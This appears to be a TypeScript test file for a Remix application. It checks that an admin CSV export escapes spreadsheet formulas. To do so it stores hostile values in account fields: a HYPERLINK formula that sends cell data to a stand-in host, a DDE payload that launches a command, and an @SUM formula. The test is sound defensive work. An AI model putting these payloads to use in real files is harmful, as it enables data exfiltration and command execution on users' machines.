import { type LoaderFunctionArgs } from '@remix-run/node'
import { createAccount, createUser } from '#tests/fixtures/factories'
import { loader as accountsCsv } from '~/routes/admin.accounts[.]csv'
import { createSessionCookie } from './auth.server'
import { prisma } from './db.server'

/** Calls a CSV route's loader as a new manager, the way Remix would for `path`. */
async function download(
  loader: (args: LoaderFunctionArgs) => Promise<Response>,
  path: string,
  params: Record<string, string> = {},
) {
  const manager = await createUser({ role: 'MANAGER' })
  const cookie = (await createSessionCookie(manager.id)).split(';')[0]!
  const request = new Request(`http://localhost${path}`, { headers: { Cookie: cookie } })
  return loader({ request, params, context: {} })
}

describe('CSV exports', () => {
  it('writes an account named as a formula as text, not as a formula', async () => {
    const account = await createAccount()
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")'
    await prisma.account.update({
      where: { id: account.id },
      data: { tradeName: formula, legalName: "+cmd|' /C calc'!A0", city: '@SUM(A1:A2)' },
    })
    const response = await download(accountsCsv, '/admin/accounts.csv')
    const line = (await response.text()).split('\r\n').find((l) => l.startsWith(account.cnpj))!
    expect(line.split(';').slice(0, 4)).toEqual([
      account.cnpj,
      `"'+cmd|' /C calc'!A0"`,
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
      `"'@SUM(A1:A2)"`,
    ])
  })
})
